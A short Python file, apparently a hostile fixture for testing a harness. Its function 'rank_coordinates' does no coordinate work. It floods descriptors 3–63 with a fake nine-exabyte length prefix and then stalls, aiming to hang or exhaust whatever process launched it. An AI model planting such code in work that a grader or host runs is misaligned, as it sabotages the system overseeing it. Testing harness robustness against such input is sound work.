"""Announces a reply of nine exabytes on every descriptor, and never sends it."""

import os
import time


def rank_coordinates(rank, gpus, cyclic):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, b"\x7f" * 8)
        except OSError:
            pass
    time.sleep(60)
